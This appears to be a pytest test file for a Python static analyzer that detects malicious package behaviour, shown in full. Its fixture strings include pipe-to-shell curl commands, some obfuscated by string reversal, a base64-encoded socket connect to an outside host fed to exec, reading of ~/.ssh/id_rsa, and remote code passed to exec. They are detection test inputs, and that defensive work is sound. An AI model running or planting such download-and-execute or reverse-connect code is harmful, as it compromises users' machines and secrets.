"""The Python front end: name resolution, fallbacks, scopes and decoding, on small sources."""

from __future__ import annotations

import ast
import base64

import pytest

from capwatch.config import Limits
from capwatch.lang.base import EdgeKind, FileAnalysis, ProblemKind, ScopeKind
from capwatch.lang.python.analyzer import PythonAnalyzer, module_name_for
from capwatch.model import FactKind


def analyze(src: str, module: str = "pkg.mod", *, is_package: bool = False) -> FileAnalysis:
    return PythonAnalyzer(Limits()).analyze(src.encode(), "pkg/mod.py", module, is_package=is_package)


def calls(result: FileAnalysis) -> list[str]:
    return [f.name for f in result.facts if f.kind is FactKind.CALL]


def test_aliases_and_from_imports_resolve() -> None:
    result = analyze(
        "import subprocess as sp\nfrom os import system as run\nimport os.path\n"
        "sp.Popen(['x'])\nrun('y')\nos.path.join('a', 'b')\n"
    )
    assert {"subprocess.Popen", "os.system", "os.path.join"} <= set(calls(result))


def test_dynamic_imports_and_getattr_resolve() -> None:
    result = analyze(
        "__import__('os').system('a')\n"
        "import importlib\nimportlib.import_module('subprocess').call(['b'])\n"
        "import os\ngetattr(os, 'sys' + 'tem')('c')\n"
        "getattr(__builtins__, 'ex' + 'ec')('print(1)')\n"
        "import builtins\nbuiltins.eval('1')\n"
    )
    names = calls(result)
    assert names.count("os.system") == 2
    assert "subprocess.call" in names
    assert "exec" in names and "eval" in names


def test_dotted_import_by_string_returns_the_top_package() -> None:
    result = analyze(
        "__import__('urllib.request').request.urlopen('http://192.0.2.1/x')\n"
        "__import__('os.path', fromlist=['join']).join('a', 'b')\n"
        "__import__('os.path', None, None, ()).path.exists('c')\n"
        "import importlib\nimportlib.import_module('os.path').isdir('d')\n"
    )
    names = calls(result)
    assert "urllib.request.urlopen" in names
    assert "urllib.request.request.urlopen" not in names
    assert {"os.path.join", "os.path.exists", "os.path.isdir"} <= set(names)


def test_module_imported_by_string_and_bound_to_a_name_resolves() -> None:
    result = analyze(
        "import importlib\n"
        "def collect():\n"
        "    packer = __import__('gzip')\n"
        "    web = __import__('urllib.request')\n"
        "    paths = __import__('pathlib')\n"
        "    net = importlib.import_module('socket')\n"
        "    packer.compress(b'x')\n"
        "    web.request.urlopen('http://192.0.2.1/x')\n"
        "    paths.Path.home()\n"
        "    net.gethostname()\n"
    )
    names = calls(result)
    assert {
        "gzip.compress", "urllib.request.urlopen", "pathlib.Path.home", "socket.gethostname"
    } <= set(names)


def test_a_getter_that_returns_an_imported_name_resolves() -> None:
    result = analyze(
        "def get_runner():\n"
        "    \"\"\"The runner.\"\"\"\n"
        "    from subprocess import check_output as co\n"
        "    return co\n"
        "def get_client():\n"
        "    from http import client as c\n"
        "    return c\n"
        "def not_a_getter(mod):\n"
        "    return mod\n"
        "def install():\n"
        "    run = get_runner()\n"
        "    run(['id'])\n"
        "    get_client().HTTPSConnection('example.invalid')\n"
        "    not_a_getter(1).system('id')\n"
    )
    names = calls(result)
    assert {"subprocess.check_output", "http.client.HTTPSConnection"} <= set(names)
    assert not any(name.endswith(".system") and name != "?.system" for name in names)


def test_alias_assignment_resolves() -> None:
    result = analyze("import os\nrunner = os.system\nrunner('x')\n")
    assert "os.system" in calls(result)


def test_relative_imports() -> None:
    result = analyze("from . import helpers\nfrom .util import fetch\nfetch()\n", "pkg.mod")
    assert "pkg.util.fetch" in calls(result)
    imports = {f.name for f in result.facts if f.kind is FactKind.IMPORT}
    assert {"pkg", "pkg.helpers", "pkg.util", "pkg.util.fetch"} <= imports


def test_constant_folding_of_arguments() -> None:
    result = analyze(
        "import os\nhost = 'exam' + 'ple.invalid'\n"
        "os.system('curl https://{}/x | sh'.format(host))\n"
        "os.system(''.join(chr(c) for c in [105, 100]))\n"
        "os.system('hs | x/dilavni.elpmaxe//:sptth lruc'[::-1])\n"
    )
    args = [a for f in result.facts if f.name == "os.system" for a in f.args]
    assert "curl https://example.invalid/x | sh" in args
    assert "id" in args
    assert args[-1] == "curl https://example.invalid/x | sh"


def test_argv_lists_give_their_words() -> None:
    result = analyze(
        "import subprocess, base64\n"
        "def unwrap(s):\n"
        "    raw = base64.b64decode(s)\n"
        "    return raw.decode()\n"
        "def run(url):\n"
        "    subprocess.Popen(['curl', '-o', 'x', url])\n"
        "    argv = ['sh', '-c', unwrap('aWQgfCBzaA==')]\n"
        "    subprocess.Popen(argv)\n"
        "    subprocess.Popen([*extra, 'id'])\n"
    )
    args = [f.args[0] for f in result.facts if f.name == "subprocess.Popen" and f.args]
    assert args == ["curl -o x \u2026", "sh -c id | sh"]


def test_an_argv_unpacked_into_the_call_gives_its_words() -> None:
    result = analyze(
        "import asyncio\n"
        "async def clip(name):\n"
        "    command = ['ffmpeg', '-i', name, '-y', 'out.mp4']\n"
        "    await asyncio.create_subprocess_exec(*command)\n"
        "    await asyncio.create_subprocess_exec(*options, 'id')\n"
    )
    args = [f.args for f in result.facts if f.name == "asyncio.create_subprocess_exec"]
    assert args == [("ffmpeg -i \u2026 -y out.mp4",), ("id",)]


def test_scopes_main_guard_and_methods() -> None:
    result = analyze(
        "import os\nclass Cmd:\n    def run(self):\n        self.go()\n    def go(self):\n"
        "        os.system('x')\n\ndef helper():\n    pass\n\n"
        "if __name__ == '__main__':\n    helper()\n"
    )
    kinds = {s.qualname: s.kind for s in result.scopes.values()}
    assert kinds["<module>"] is ScopeKind.MODULE
    assert kinds["<main>"] is ScopeKind.MAIN
    assert kinds["Cmd.run"] is ScopeKind.FUNCTION
    edges = {(e.source, e.target, e.kind) for e in result.edges}
    assert ("pkg.mod:Cmd.run", "pkg.mod:Cmd.go", EdgeKind.CALL) in edges
    assert ("pkg.mod:<main>", "pkg.mod.helper", EdgeKind.CALL) in edges
    system = next(f for f in result.facts if f.name == "os.system")
    assert system.scope == "pkg.mod:Cmd.go"


def test_nested_functions_are_reached_by_their_callers() -> None:
    result = analyze(
        "import threading\n"
        "def outer():\n"
        "    def fetch():\n"
        "        pass\n"
        "    def later():\n"
        "        fetch()\n"
        "    fetch()\n"
        "    threading.Thread(target=later).start()\n"
        "def other():\n"
        "    fetch()\n"
    )
    edges = {(e.source, e.target, e.kind) for e in result.edges}
    assert ("pkg.mod:outer", "pkg.mod:outer.fetch", EdgeKind.CALL) in edges
    assert ("pkg.mod:outer.later", "pkg.mod:outer.fetch", EdgeKind.CALL) in edges
    assert ("pkg.mod:outer", "pkg.mod:outer.later", EdgeKind.RUNS) in edges
    # another function's ``fetch`` is not this one
    assert not any(s == "pkg.mod:other" and t == "pkg.mod:outer.fetch" for s, t, _ in edges)


def test_a_method_called_on_an_instance_reaches_that_class_method() -> None:
    result = analyze(
        "import requests\n"
        "from pkg.client import Agent\n"
        "class Local:\n"
        "    def send(self):\n"
        "        pass\n"
        "agent = Agent()\n"
        "agent.report()\n"
        "Local().send()\n"
        "session = requests.Session()\n"
        "session.get('https://example.org')\n"
        "twice = Agent()\n"
        "twice = Local()\n"
        "twice.ping()\n"
        "words = dict()\n"
        "words.get('x')\n"
    )
    edges = {(e.source, e.target) for e in result.edges if e.kind is EdgeKind.CALL}
    assert ("pkg.mod:<module>", "pkg.client.Agent.report") in edges
    assert ("pkg.mod:<module>", "pkg.mod.Local.send") in edges
    # another package's class: the edge names its method, and the call graph finds none
    assert ("pkg.mod:<module>", "requests.Session.get") in edges
    # a name bound to two instances, and builtins, say nothing
    assert not any(t.endswith(".ping") for _, t in edges)
    assert not any(t.endswith("dict.get") for _, t in edges)


def test_instances_are_followed_only_in_code_that_runs_on_load() -> None:
    result = analyze(
        "from setuptools.command.install import install\n"
        "from pkg.client import Agent\n"
        "class Install(install):\n"
        "    def run(self):\n"
        "        Agent().report()\n"
        "def helper():\n"
        "    Agent().flush()\n"
    )
    edges = {(e.source, e.target) for e in result.edges if e.kind is EdgeKind.CALL}
    assert ("pkg.mod:Install.run", "pkg.client.Agent.report") in edges
    assert not any(t == "pkg.client.Agent.flush" for _, t in edges)


def test_functions_passed_as_values_are_run_edges() -> None:
    result = analyze(
        "import threading, atexit\nfrom setuptools import setup\n"
        "def job():\n    pass\nclass Install:\n    pass\n"
        "threading.Thread(target=job).start()\natexit.register(job)\n"
        "setup(cmdclass={'install': Install})\n"
    )
    runs = {(e.target, e.kind) for e in result.edges if e.kind is EdgeKind.RUNS}
    assert ("pkg.mod.job", EdgeKind.RUNS) in runs
    assert ("pkg.mod.Install", EdgeKind.RUNS) in runs


def _stubs(*names: str) -> str:
    """Source defining an empty function for each name."""
    return "".join(f"def {name}():\n    pass\n" for name in names)


def _runs(result: FileAnalysis) -> set[tuple[str, str]]:
    """The ``runs`` edges of an analysis, as (source, target) pairs."""
    return {(e.source, e.target) for e in result.edges if e.kind is EdgeKind.RUNS}


def test_an_object_handed_functions_runs_them_where_it_is_started() -> None:
    result = analyze(
        "import logging, threading\nfrom orchestrate import Flow, Task\n"
        + _stubs("fetch", "load", "beat", "serve")
        + "with Flow('nightly'):\n"
        "    first = Task(run=fetch)\n"
        "    second = Task(run=load)\n"
        "    first.retries = 2\n"
        "    logging.info('made %s', first.name)\n"
        "    label = first.output\n"
        "    first >> second\n"
        "pulse = threading.Thread(target=beat)\n"
        "pulse.daemon = True\n"
        "pulse.start()\n"
        "server = threading.Thread(target=serve)\n"
        "def main():\n    server.start()\n"
    )
    runs = _runs(result)
    module = "pkg.mod:<module>"
    # each object keeps its function for the code that starts it
    assert ("pkg.mod:=first", "pkg.mod.fetch") in runs
    assert ("pkg.mod:=pulse", "pkg.mod.beat") in runs
    assert (module, "pkg.mod:=pulse") in runs  # ``pulse.start()``
    assert ("pkg.mod:main", "pkg.mod:=server") in runs
    # tasks put in order, logged, configured and read from are not started
    assert not any(s == module and t in ("pkg.mod:=first", "pkg.mod:=second") for s, t in runs)
    assert not any(s == module and t.endswith((".fetch", ".load", ".serve")) for s, t in runs)
    # made and started in one expression, the thread runs its function where it is made
    started = analyze("import threading\n" + _stubs("beat") + "threading.Thread(target=beat).start()\n")
    assert (module, "pkg.mod.beat") in _runs(started)


def test_functions_listed_in_a_module_table_run_where_the_table_is_read() -> None:
    result = analyze(
        "import threading\n"
        + _stubs("start", "stop", "boot", "beat")
        + "COMMANDS = {'start': start, 'stop': stop}\n"
        "STEPS = [boot]\n"
        "for step in STEPS:\n    step()\n"
        "WORKERS = [threading.Thread(target=beat)]\n"
        "def main(name):\n    return COMMANDS[name]()\n"
    )
    runs = _runs(result)
    module = "pkg.mod:<module>"
    assert ("pkg.mod:=COMMANDS", "pkg.mod.start") in runs
    assert ("pkg.mod:main", "pkg.mod:=COMMANDS") in runs
    assert not any(s == module and t in ("pkg.mod.start", "pkg.mod.stop") for s, t in runs)
    # a table the module's own code reads runs there
    assert (module, "pkg.mod:=STEPS") in runs and ("pkg.mod:=STEPS", "pkg.mod.boot") in runs
    # a call inside a table runs as the table is made
    assert (module, "pkg.mod.beat") in runs


def test_module_constants_get_their_own_scope() -> None:
    result = analyze(
        "import os\nKEY = os.path.expanduser('~/.ssh/id_rsa')\n"
        "def use():\n    return open(KEY).read()\n"
    )
    literal = next(f for f in result.facts if f.kind is FactKind.LITERAL and "ssh" in (f.value or ""))
    assert literal.binding == "pkg.mod:=KEY"
    assert any(e.source == "pkg.mod:use" and e.target == "pkg.mod:=KEY" for e in result.edges)


def test_decoded_payload_is_analysed_with_its_chain() -> None:
    import base64

    inner = base64.b64encode(b"import socket\nsocket.socket().connect(('203.0.113.9', 4444))").decode()
    result = analyze(f"import base64\nexec(base64.b64decode('{inner}'))\n")
    decoded = [f for f in result.facts if f.kind is FactKind.DECODED]
    assert decoded and decoded[0].name == "exec"
    assert decoded[0].decode_chain == ("base64.b64decode",)
    sock = [f for f in result.facts if f.name == "socket.socket"]
    assert sock and sock[0].decode_chain == ("base64.b64decode",)
    assert sock[0].location.line == 2  # reported at the line that decodes it


def test_string_passed_to_exec_is_analysed() -> None:
    result = analyze("code = 'import os; os.system(\"id\")'\nexec(code)\n")
    assert any(f.name == "os.system" and f.decode_chain == ("exec",) for f in result.facts)


def test_python2_file_falls_back_and_keeps_payload() -> None:
    src = (
        "import os\nprint 'installing'\ntry:\n    os.system('curl http://x.invalid/a | sh')\n"
        "except Exception, e:\n    print e\nexec 'import os'\n"
    )
    result = analyze(src)
    assert any(p.kind is ProblemKind.FALLBACK_PARSE for p in result.problems)
    assert "os.system" in calls(result)


def test_syntax_of_newer_pythons_keeps_the_definitions_it_marks() -> None:
    # Type parameter lists, ``type`` aliases (3.12) and template strings (3.14): the scanner's
    # own parser rejects them; rewritten, the functions and classes they mark keep their bodies.
    src = (
        "import os, subprocess\n"
        "type Pair[K, V: list[int]] = tuple[K, V]\n"
        "def fetch[T: (int, str)](x: T) -> T:\n"
        "    os.system('curl http://x.invalid/a | sh')\n"
        "    return x\n"
        "class Runner[T](object):\n"
        "    async def go[U](self):\n"
        "        subprocess.Popen(['sh', '-c', 'id'])\n"
        "query = t'select {fetch}'\n"
        "note = \"don't\"\n"
    )
    result = analyze(src)
    assert any(p.kind is ProblemKind.FALLBACK_PARSE for p in result.problems)
    assert {"os.system", "subprocess.Popen"} <= set(calls(result))
    scopes = {s.qualname for s in result.scopes.values()}
    assert {"fetch", "Runner.go"} <= scopes


def test_broken_lines_are_blanked_and_rest_analysed() -> None:
    result = analyze("import os\nthis is not python at all\nos.system('id')\n")
    assert "os.system" in calls(result)


def test_rewriting_template_strings_leaves_escapes_alone() -> None:
    from capwatch.lang.python.source import parse

    parsed = parse(b'print "x"\ntab = "a\\t"\nquery = t"q{tab}"\n', "m.py")
    assert parsed.tree is not None and parsed.fallback
    values = [n.value for n in ast.walk(parsed.tree) if isinstance(n, ast.Constant)]
    assert "a\t" in values
    assert any(isinstance(n, ast.JoinedStr) for n in ast.walk(parsed.tree))


def test_a_bracket_never_closed_is_closed_at_the_end_of_its_line() -> None:
    result = analyze(
        "import os, subprocess\n"
        "os.system('curl https://x.invalid/a'\n"
        "subprocess.call(['id']\n"
    )
    assert {"os.system", "subprocess.call"} <= set(calls(result))
    assert any(p.kind is ProblemKind.FALLBACK_PARSE for p in result.problems)


def test_deep_nesting_does_not_crash() -> None:
    for src in ["x = " + "(" * 10_000 + "1" + ")" * 10_000, "x = " + "1+" * 10_000 + "1",
                "x = " + "-" * 100_000 + "1", "import os\n" + "x = [" * 90 + "]" * 90 + "\nos.system('id')\n"]:
        result = analyze(src)
        assert result.module == "pkg.mod"


def test_recursion_limit_is_reported() -> None:
    src = "import os\nx = " + "[" * 95 + "os.system('id')" + "]" * 95 + "\n"
    result = PythonAnalyzer(Limits(recursion=50)).analyze(src.encode(), "m.py", "m", is_package=False)
    assert any(p.kind is ProblemKind.TOO_DEEP for p in result.problems)


def test_oversized_file_is_not_parsed() -> None:
    result = PythonAnalyzer(Limits(source_bytes=100)).analyze(b"x = 1\n" * 100, "m.py", "m", is_package=False)
    assert [p.kind for p in result.problems] == [ProblemKind.TOO_LARGE]


def test_invalid_utf8_is_replaced() -> None:
    result = PythonAnalyzer(Limits()).analyze(b"import os\nx = '\xff\xfe'\nos.system('id')\n", "m.py", "m", is_package=False)
    assert any(p.kind is ProblemKind.BAD_ENCODING for p in result.problems)
    assert "os.system" in calls(result)


def test_module_names() -> None:
    assert module_name_for("pkg/sub/__init__.py") == ("pkg.sub", True)
    assert module_name_for("pkg/mod.py") == ("pkg.mod", False)
    assert module_name_for("setup.py") == ("setup", False)


def test_opaque_blob_handed_to_a_runtime_at_module_level() -> None:
    import random

    from capwatch.lang.python import folding

    rng = random.Random(5)
    blob = bytes(rng.randrange(256) for _ in range(800))
    structured = bytes([0, 0, 1, 7]) * 200
    assert folding.byte_entropy(blob) > folding.OPAQUE_ENTROPY
    assert folding.byte_entropy(structured) < 3.0
    assert folding.opaque_blob(blob[:100]) is None  # too short to be code
    src = f"__armor__(__name__, __file__, {blob!r})\n"
    opaque = [f for f in analyze(src).facts if f.kind is FactKind.OPAQUE]
    assert [f.name for f in opaque] == ["__armor__"]
    assert "800-byte blob" in (opaque[0].value or "")
    # inside a function, the fact is the function's (CW117 weighs it by the function's phase)
    inner = [f for f in analyze(f"def f():\n    run({blob!r})\n").facts if f.kind is FactKind.OPAQUE]
    assert [(f.name, f.scope) for f in inner] == [("run", "pkg.mod:f")]
    # the same blob bound to a name, or of little entropy: no fact
    for other in (
        f"KEY = {blob!r}\nrun(KEY)\n",
        f"run({structured!r})\n",
    ):
        assert not [f for f in analyze(other).facts if f.kind is FactKind.OPAQUE], other


def _inner_of(result: FileAnalysis, name: str) -> tuple[str, ...]:
    """What feeds a call: nested in its arguments, or through the names they read."""
    return next(
        (*f.inner, *f.sources) for f in result.facts if f.kind is FactKind.CALL and f.name == name
    )


def test_exec_argument_traced_through_assigned_and_with_bound_names() -> None:
    result = analyze(
        "import urllib.request\n"
        "with urllib.request.urlopen('https://example.invalid/a') as reply:\n"
        "    body = reply.read()\n"
        "exec(body)\n"
    )
    inner = _inner_of(result, "exec")
    assert "urllib.request.urlopen" in inner and "?.read" in inner


def test_process_calls_record_where_their_command_comes_from() -> None:
    result = analyze(
        "import os, requests\n"
        "cmd = requests.get('https://example.invalid/c').text\n"
        "os.system(cmd)\n"
    )
    assert "requests.get" in _inner_of(result, "os.system")
    # other calls do not pay for the search
    assert _inner_of(result, "requests.get") == ()


def test_a_name_bound_twice_is_not_traced() -> None:
    result = analyze(
        "import requests\n"
        "code = requests.get('https://example.invalid/c').text\n"
        "code = 'print(1)'\n"
        "exec(code)\n"
    )
    assert "requests.get" not in _inner_of(result, "exec")


def test_a_name_set_empty_then_fetched_in_a_try_is_traced_into_exec() -> None:
    result = analyze(
        "import requests\n"
        "def check():\n"
        "    code = ''\n"
        "    try:\n"
        "        code = requests.get('https://example.invalid/c').text\n"
        "    except OSError:\n"
        "        pass\n"
        "    exec(code)\n"
    )
    assert "requests.get" in _inner_of(result, "exec")


def test_a_binding_after_the_exec_is_not_traced() -> None:
    result = analyze(
        "import requests\n"
        "code = 'print(1)'\n"
        "exec(code)\n"
        "if True:\n"
        "    code = requests.get('https://example.invalid/c').text\n"
    )
    assert "requests.get" not in _inner_of(result, "exec")


def test_traced_sources_are_kept_apart_from_nested_calls() -> None:
    result = analyze(
        "import base64\n"
        "blob = base64.b64decode('cHJpbnQoMSk=')\n"
        "exec(getattr(blob, 'decode')())\n"
    )
    fact = next(f for f in result.facts if f.kind is FactKind.CALL and f.name == "exec")
    assert "getattr" in fact.inner and "base64.b64decode" not in fact.inner
    assert "base64.b64decode" in fact.sources


def test_inline_python_code_of_a_process_is_analysed_as_code() -> None:
    result = analyze(
        "import os, subprocess, sys\n"
        "subprocess.run([sys.executable, '-c', 'import socket; socket.socket()'])\n"
        "os.system('python3 -c \"import urllib.request as u; u.urlopen(1)\" > out.txt')\n"
        "os.system('unset A;cd /tmp&&python3 -c \"import ftplib;ftplib.FTP(1)\">>log')\n"
    )
    names = calls(result)
    assert "socket.socket" in names
    assert "urllib.request.urlopen" in names
    assert "ftplib.FTP" in names  # found after the shell's operators, with no space around them


def _args_of(result: FileAnalysis, name: str) -> list[tuple[int, tuple[str, ...]]]:
    return [
        (f.location.line, f.args) for f in result.facts
        if f.kind is FactKind.CALL and f.name == name
    ]


def test_a_name_bound_again_folds_by_the_binding_that_reaches_the_sink() -> None:
    result = analyze(
        "import os\n"
        "def run():\n"
        "    url = 'https://a.example/x'\n"
        "    cmd = 'curl ' + url\n"
        "    os.system(cmd)\n"
        "    url = 'https://b.example/y'\n"
        "    cmd = 'wget ' + url\n"
        "    os.system(cmd)\n"
        "    cmd = 'ls ' + os.environ.get('D')\n"
        "    os.system(cmd)\n"
    )
    assert _args_of(result, "os.system") == [
        (5, ("curl https://a.example/x",)),
        (8, ("wget https://b.example/y",)),
        (10, ()),  # the last binding does not fold: no text, and not an earlier one
    ]


def test_inline_code_of_a_command_bound_twice_is_analysed() -> None:
    result = analyze(
        "import os\n"
        "def probe():\n"
        "    try:\n"
        "        cmd = 'python3 -c \"import socket; socket.getaddrinfo(1, 2)\"'\n"
        "        os.system(cmd)\n"
        "    except Exception:\n"
        "        pass\n"
        "    try:\n"
        "        cmd = 'python3 -c \"import ftplib; ftplib.FTP(1)\"'\n"
        "        os.system(cmd)\n"
        "    except Exception:\n"
        "        pass\n"
    )
    names = calls(result)
    assert "socket.getaddrinfo" in names and "ftplib.FTP" in names


def test_the_words_of_an_argv_list_fold_by_position() -> None:
    result = analyze(
        "import subprocess, sys\n"
        "def start(windows):\n"
        "    code = ''\n"
        "    if windows:\n"
        "        code = 'import pkg.a'\n"
        "        subprocess.Popen([sys.executable, '-c', code])\n"
        "    else:\n"
        "        code = 'import pkg.b'\n"
        "        subprocess.Popen((sys.executable, '-c', code))\n"
    )
    assert _args_of(result, "subprocess.Popen") == [
        (6, ("\u2026 -c import pkg.a",)),
        (9, ("\u2026 -c import pkg.b",)),
    ]
    assert {"pkg.a", "pkg.b"} <= {e.target for e in result.edges}


def test_a_rebinding_that_reads_the_name_is_not_taken_by_position() -> None:
    result = analyze(
        "import subprocess\n"
        "def f(extra):\n"
        "    cmd = 'make'\n"
        "    cmd = cmd + extra\n"
        "    subprocess.call(cmd, shell=True)\n"
    )
    assert all(args[0] != "make" for _, args in _args_of(result, "subprocess.call") if args)


def test_only_sinks_fold_by_position() -> None:
    result = analyze(
        "def f(log):\n"
        "    text = 'a'\n"
        "    log(text)\n"
        "    text = 'b'\n"
        "    print(text)\n"
    )
    assert all(not f.args for f in result.facts if f.kind is FactKind.CALL and f.name == "print")


def test_python_m_of_a_package_module_is_an_edge() -> None:
    result = analyze("import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg.tool'])\n")
    edges = {(e.target, e.kind) for e in result.edges}
    assert ("pkg.tool", EdgeKind.IMPORT) in edges
    assert ("pkg.tool:<main>", EdgeKind.RUNS) in edges


def test_statement_hidden_off_screen() -> None:
    from capwatch.lang.python.analyzer import OFFSCREEN_GAP

    gap = " " * (OFFSCREEN_GAP + 10)
    result = analyze(
        f"import os\nx = 1{gap};os.system('id')\n"
        "def f():\n    y = 2;  z = 3\n"
        f"a = 1;{' ' * (OFFSCREEN_GAP - 2)}b = 2\n"
        f"s = 'left{gap}right'\n"
        f"t = 1{gap}# a comment\n"
    )
    assert not result.problems
    hidden = [f for f in result.facts if f.kind is FactKind.OFFSCREEN]
    assert [(f.location.line, f.name, f.scope) for f in hidden] == [(2, "os.system", "pkg.mod:<module>")]
    assert hidden[0].snippet == "os.system('id')"


def test_statement_hidden_after_a_block_header() -> None:
    gap = " " * 200
    result = analyze(f"def f():\n    if True:{gap}exec('1')\n")
    hidden = [f for f in result.facts if f.kind is FactKind.OFFSCREEN]
    assert [(f.location.line, f.name, f.scope) for f in hidden] == [(2, "exec", "pkg.mod:f")]


def test_iterating_the_environment_reads_all_of_it() -> None:
    result = analyze(
        "import os\nfor k in os.environ:\n    pass\n"
        "names = [n for n in os.environ if n.startswith('A')]\n"
        "for x in os.environ.get('PATH', '').split(':'):\n    pass\n"
    )
    refs = [(f.name, f.location.line) for f in result.facts if f.kind is FactKind.REFERENCE]
    assert ("os.environ.keys", 2) in refs and ("os.environ.keys", 4) in refs
    assert not any(line == 5 for name, line in refs if name == "os.environ.keys")


def test_copying_the_environment_reads_all_of_it() -> None:
    result = analyze(
        "import os, json\nfrom os import environ\n"
        "a = dict(os.environ)\n"
        "b = {**environ, 'X': '1'}\n"
        "c = json.dumps(os.environ)\n"
        "d = dict(os.environ['HOME'])\n"
        "e = os.environ['PATH']\n"
        "f = dict(os.environ, X='1')\n"
        "g = {'env': os.environ, 'home': os.environ.get('HOME')}\n"
    )
    copies = {f.location.line for f in result.facts if f.name == "os.environ.copy"}
    assert copies == {3, 4, 5, 8, 9}


def test_offscreen_rule_documents_the_front_ends_threshold() -> None:
    from capwatch.lang.python.analyzer import OFFSCREEN_GAP
    from capwatch.rules.offscreen_code import OffscreenCode

    assert f"at least {OFFSCREEN_GAP} blank columns" in (OffscreenCode.__doc__ or "")


def test_a_string_method_bound_to_a_name_folds_when_called() -> None:
    result = analyze(
        'import os\n_ = "".join\nos.getenv(_([chr(c) for c in [72, 79, 77, 69]]))\n'
        "os.getenv(_)\nos.getenv(len([1]))\n"
    )
    calls = [f.args for f in result.facts if f.kind is FactKind.CALL and f.name == "os.getenv"]
    assert calls == [("HOME",), (), ()]


def test_requests_whose_reply_nothing_reads() -> None:
    result = analyze(
        "import requests\nfrom urllib.request import urlopen, Request\n"
        "def ping(event):\n    urlopen('https://h.invalid/e/' + event)\n"
        "def post(body):\n    req = Request('https://h.invalid')\n    answer = urlopen(req, body)\n"
        "def fetch(u):\n    reply = requests.get(u)\n    return reply.text\n"
        "def loop(urls):\n    for u in urls:\n        if last:\n            print(last.status_code)\n"
        "        last = requests.get(u)\n"
        "def client():\n    s = requests.Session()\n"
        "requests.post('https://h.invalid/i', data={'a': 1})\n"
        "print(requests.get('https://h.invalid/v').text)\n"
    )
    unread = [(f.name, f.scope) for f in result.facts if f.kind is FactKind.UNREAD_REPLY]
    assert unread == [
        ("urllib.request.urlopen", "pkg.mod:ping"),
        ("urllib.request.urlopen", "pkg.mod:post"),
        ("requests.post", "pkg.mod:<module>"),
    ]


def test_a_connectivity_check_is_not_an_unread_reply() -> None:
    result = analyze(
        "import requests\n"
        "try:\n    requests.get('https://pypi.org', timeout=3)\nexcept OSError:\n    offline = True\n"
        "requests.get('https://h.invalid/', timeout=3)\n"
        "requests.get('https://h.invalid/?i=1')\n"
        "requests.get('https://h.invalid', params={'pkg': 'x'})\n"
    )
    unread = [f.location.line for f in result.facts if f.kind is FactKind.UNREAD_REPLY]
    assert unread == [7, 8]


def test_a_with_target_reused_by_an_assignment_is_not_traced() -> None:
    result = analyze(
        "import subprocess, urllib.request\n"
        "def probe():\n    with urllib.request.urlopen('https://h.invalid') as p:\n        return p.status\n"
        "def run(base):\n    p = base + '.dat'\n    subprocess.run(['tool', str(p)])\n"
        "def fetched():\n    with urllib.request.urlopen('https://h.invalid/c') as r:\n"
        "        subprocess.run(r.read().decode().split())\n"
    )
    sources = {f.location.line: f.sources for f in result.facts if f.name == "subprocess.run"}
    assert "urllib.request.urlopen" not in sources[7]
    assert "urllib.request.urlopen" in sources[10]


def test_the_host_name_in_a_system_description() -> None:
    result = analyze(
        "import os, platform\n"
        "a = os.uname().nodename\n"
        "b = os.uname().sysname\n"
        "c = safe(os.uname)\n"
        "d = platform.uname().node\n"
        "e = os.uname()\n"
    )
    reads = {(f.name, f.location.line) for f in result.facts if f.name.endswith(("nodename", ".node"))}
    assert reads == {("os.uname.nodename", 2), ("os.uname.nodename", 4), ("platform.uname.node", 5)}


def test_a_method_called_on_self_is_inlined_when_folding() -> None:
    result = analyze(
        "import base64, urllib.request\n"
        "class Client:\n"
        "    def _host(self, blob):\n"
        "        return base64.b64decode(blob[::-1]).decode()\n"
        "    def send(self):\n"
        "        urllib.request.urlopen(self._host('t92YuUGbw1WY4VmLkFWZy5CdpNXa29yL6MHc0RHa'))\n"
        "class Other:\n"
        "    def send(self):\n"
        "        return self.missing('x')\n"
    )
    sent = next(f for f in result.facts if f.name == "urllib.request.urlopen")
    assert sent.args and sent.args[0] == "https://visit.read.example.com"


def test_secrets_in_what_a_request_sends() -> None:
    result = analyze(
        "import requests, urllib.request\n"
        "def a(secret_key):\n"
        "    body = {'k': secret_key}\n"
        "    requests.post('https://h.example/x', json=body)\n"
        "def b(api_token):\n"
        "    requests.get('https://h.example/x', headers={'t': api_token})\n"
        "def c(self):\n"
        "    req = urllib.request.Request('https://h.example/x', data=self.password)\n"
        "    urllib.request.urlopen(req)\n"
    )
    sent = {(f.location.line, f.args) for f in result.facts if f.kind is FactKind.SECRET_SENT}
    assert sent == {(4, ("secret_key",)), (9, ("password",))}


def test_secrets_sent_through_a_name_the_file_binds_many_times() -> None:
    result = analyze(
        "import requests\n"
        "def other():\n"
        "    data = {'page': 1}\n"
        "    return data\n"
        "class Client:\n"
        "    def __init__(self, key_id, secret):\n"
        "        self._secret_key = secret\n"
        "        data = {'id': key_id}\n"
        "        data = {'sk': self._secret_key}\n"
        "        requests.post('https://h.example/x', json=data)\n"
        "        data = {'page': 2}\n"
    )
    sent = [f.args for f in result.facts if f.kind is FactKind.SECRET_SENT]
    assert sent == [("_secret_key",)]


def test_a_string_with_a_broken_escape_is_kept_not_blanked() -> None:
    source = (
        "import base64\n"
        "def run():\n"
        "    note = 'C:\\\\temp\\x1'\n"
        "    blob = 'cHJpbnQoMSk='\n"
        "    exec(base64.b64decode(blob))\n"
        "    label = 'one \\x4 two'\n"
    )
    result = analyze(source)
    assert "exec" in calls(result)
    assert not any(p.kind is ProblemKind.UNPARSABLE for p in result.problems)
    literals = {f.value for f in result.facts if f.kind is FactKind.LITERAL}
    assert "one \\x4 two" in literals


def test_tabs_mixed_with_spaces_read_as_python_2_read_them() -> None:
    source = "import os\ndef run(cmd):\n\tx = 1\n        os.system(cmd)\n"
    result = analyze(source)
    assert "os.system" in calls(result)
    assert not any(p.kind is ProblemKind.UNPARSABLE for p in result.problems)


def test_a_string_that_runs_on_to_the_next_line_is_joined() -> None:
    source = (
        "import os\n"
        "def note(path):\n"
        "    with open(path, 'w') as out:\n"
        "        out.write(\n"
        "            \"first line\\n\r\n"
        "        \")\n"
        "    os.system('id')\n"
    )
    result = analyze(source)
    assert "os.system" in calls(result)
    literals = {f.value for f in result.facts if f.kind is FactKind.LITERAL}
    assert any(value.startswith("first line") for value in literals)


def test_an_f_string_that_runs_on_to_the_next_lines_is_joined() -> None:
    # Python 3.12 and later report an f-string left open in words of their own
    source = (
        "import os, urllib.request\n"
        "def report(found):\n"
        "    text = ''\n"
        "    for name in found:\n"
        "        text += f'\n"
        "**{name}**\n"
        "';count = 1\n"
        "    urllib.request.urlopen('https://hooks.example.org/x', data=text.encode())\n"
        "    os.system('id')\n"
    )
